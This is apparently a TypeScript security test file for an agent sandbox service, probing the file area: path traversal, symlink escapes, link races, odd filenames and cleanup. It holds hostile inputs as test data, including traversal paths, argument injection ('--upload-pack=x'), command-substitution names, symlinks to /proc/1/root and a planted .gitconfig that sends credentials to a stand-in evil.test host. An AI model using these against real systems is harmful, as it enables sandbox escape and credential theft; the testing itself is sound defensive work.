import { wrongIn, type Attack } from '../attack.ts';
import { createRepo, logOf, settled, startSession } from '../../scenarios/session.ts';
import { fromInside } from '../rig/from-inside.ts';

const area = 'files';

/** Names and kinds of files that somebody else might stumble over. */
export const FILES: Attack[] = [
  {
    name: 'a path of a repo that leads out of the workspace is refused at the door',
    area,
    must: 'Every spelling of .., absolute paths, .git and control characters is 422.',
    async run({ stack }, underWay) {
      underWay();
      const repoId = await createRepo(stack);
      const paths = [
        '..',
        '../x',
        'a/../../x',
        '/etc',
        '/workspace/x',
        './x',
        'a/./b',
        'a//b',
        'a/',
        '',
        '.git',
        'a/.git/hooks',
        '.GIT',
        '.git ',
        '.git.',
        'git~1',
        'GIT~1',
        '.g\u200cit',
        'a\\..\\b',
        'a\0b',
        'a\nb',
        'a\u2028b',
        '-x',
        '--upload-pack=x',
        'x'.repeat(201),
        '\ud800',
      ];
      const answers = await Promise.all(
        paths.map(async (path) => {
          const { status } = await stack.call('POST', '/v1/sessions', { repos: [{ id: repoId, path }] });
          return [path, status] as const;
        }),
      );
      return wrongIn(
        ...answers.map(([path, status]): [boolean, string] => [
          status === 422,
          `${JSON.stringify(path)} is answered ${status}`,
        ]),
      );
    },
  },
  {
    name: 'a repo cannot lead the clone of another one out of the workspace by a link',
    area,
    must: 'Where a path goes through a symbolic link of another repo, the clone is refused.',
    async run(arena, underWay) {
      const { stack, starts } = arena;
      const inner = await createRepo(stack, { 'planted.txt': 'planted\n' });
      const outer = await createRepo(stack);
      const weapon = `ln -s /home/agent/out b && ln -s /tmp c && git add -A && git commit -qm link && git push -q origin HEAD:main && echo pushed`;
      const { id: first } = await startSession(stack, { repos: [{ id: outer }], command: ['sh', '-c', weapon] });
      await settled(stack, first);
      if (!(await logOf(stack, first)).includes('pushed')) return ['the link could not be pushed'];
      const repos = [
        { id: outer, path: 'a' },
        { id: inner, path: 'a/b' },
        { id: inner, path: 'a/c/x' },
      ];
      const command = ['sh', '-c', 'find /home/agent /tmp -name planted.txt; echo OVER'];
      const { id } = await starts.run(() => startSession(stack, { repos, command }));
      underWay();
      const { status } = await settled(stack, id);
      const log = await logOf(stack, id);
      return wrongIn([!log.includes('planted.txt'), `the repo lies outside of the workspace: ${log} (${status})`]);
    },
  },
  fromInside({
    name: 'whatever is left in the workspace goes away with it',
    area,
    must: 'Pipes, sockets, directories without permissions, a thousand levels and names of bytes leave nothing behind.',
    script: `
      mkfifo fifo; weapon <<'PY'
from weapon import *
socket.socket(socket.AF_UNIX).bind("left.sock")
for name in (b"new\\nline", b"\\x1b[31mred", b"\\xff\\xfe", b"-rf", b" ", b"a" * 255, b"$(touch x)", b"..."):
    os.close(os.open(name, os.O_CREAT | os.O_WRONLY))
start = os.getcwd()
for _ in range(1000):
    os.mkdir("d" * 50)
    os.chdir("d" * 50)
os.chdir(start)
os.mkdir("closed")
os.close(os.open("closed/file", os.O_CREAT | os.O_WRONLY))
os.chmod("closed", 0)
os.symlink("/", "root")
os.symlink("loop", "loop")
PY
      cat < fifo & echo left`,
    holds: ({ session }) => wrongIn([typeof session.container?.removedAt === 'string', 'the container is still there']),
  }),
  fromInside({
    name: 'names with line breaks, escapes and bytes are pushed and cloned as they are',
    area,
    must: 'They come back the same from a clone, and the log stays one record a line.',
    script: `weapon <<'PY'
from weapon import *
import subprocess
names = [b"new\\nline", b"\\x1b]0;title\\x07", b"tab\\tname", b"\\xff\\xfe", b"-option", b"quo'te\\"s", b"$(id)", b"a" * 200, "ünï".encode()]
for name in names:
    with open(b"./" + name, "wb") as file:
        file.write(name)
for command in (["add", "-A"], ["commit", "-qm", "names"], ["push", "-q", "origin", "HEAD:refs/heads/names"], ["clone", "-q", "-b", "names", subprocess.check_output(["git", "remote", "get-url", "origin"], text=True).strip(), "/tmp/again"]):
    subprocess.run(["git", *command], check=True)
for name in names:
    if open(b"/tmp/again/" + name, "rb").read() != name:
        hole(repr(name))
PY
      git ls-files -z | tr '\\0' '\\n'`,
    holds: async ({ session }, { stack }) => {
      const text = await (
        await stack.call('GET', `/v1/sessions/${session.id}/logs`, undefined, { accept: 'application/x-ndjson' })
      ).text();
      return wrongIn([
        text
          .split('\n')
          .filter((line) => line !== '')
          .every(isRecord),
        'the log has a line that is no record',
      ]);
    },
  }),
  fromInside({
    name: 'links that are swapped while somebody looks lead nobody to the host',
    area,
    must: 'A race between a link and a directory under the workspace changes nothing outside of it.',
    script: ({ stack }) => `weapon <<'PY'
from weapon import *
until = time.monotonic() + 2
os.makedirs("race", exist_ok=True)
while time.monotonic() < until:
    os.rename("race", "aside")
    os.symlink("${stack.dir}", "race")
    os.unlink("race")
    os.rename("aside", "race")
PY
      for target in ${stack.dir} ${stack.memoryDir} /proc/1/root /proc/1/cwd /var/lib/docker; do
        ln -sfn "$target" /workspace/out
        denied "through a link to $target" ls /workspace/out/
      done`,
  }),
  fromInside({
    name: 'a file of the agent cannot pass for one of ours',
    area,
    must: 'Look-alikes of init’s marker, socket and reports below the agent’s own directories mean nothing.',
    ends: 'failed',
    script: `
      mkdir -p /tmp/run/daypass-init /workspace/run /home/agent/.config/git
      for dir in /tmp/run/daypass-init /workspace /tmp "$HOME"; do echo 'X 0' > "$dir/reports"; touch "$dir/marker" "$dir/started"; done
      printf '[credential]\\n\\thelper = "!f() { echo password=stolen; }; f"\\n[url "http://evil.test/"]\\n\\tinsteadOf = http://\\n' > "$HOME/.gitconfig"
      exit 3`,
    holds: ({ session }) => wrongIn([session.exitCode === 3, `the exit is ${session.exitCode}`]),
  }),
];

function isRecord(line: string): boolean {
  try {
    return typeof (JSON.parse(line) as { text?: unknown }).text === 'string';
  } catch {
    return false;
  }
}
